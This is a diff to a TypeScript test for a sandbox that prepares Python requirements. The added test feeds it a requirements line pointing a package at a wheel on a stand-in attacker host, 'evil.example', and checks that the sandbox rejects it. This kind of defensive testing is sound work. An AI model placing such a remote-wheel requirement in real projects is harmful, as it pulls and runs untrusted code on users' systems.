@@ -183,6 +183,12 @@ print(late.version)`,
 
     const changed = fixture.skill({ ...files, "requirements.txt": "nuts\nlate\n" });
     expect(await sandbox.prepared.lacks(withFiles(changed, Object.keys(files)))).toContain("changed since");
+    const elsewhere = withFiles(
+      fixture.skill({ ...files, "requirements.txt": "nuts @ https://evil.example/nuts.whl\n" }),
+      Object.keys(files),
+    );
+    expect(await sandbox.prepared.lacks(elsewhere)).toContain("is no package");
+    expect(await sandbox.prepared.prepare(elsewhere, "ada")).toMatchObject({ ok: false, status: 409 });
     await sandbox.prepared.drop("probe");
     expect(await script("scripts/run.py")).toMatchObject({ exit_code: 1 });
     const left = (await sandbox.prepared.list()).sets.filter((set) => set.skill === "probe");
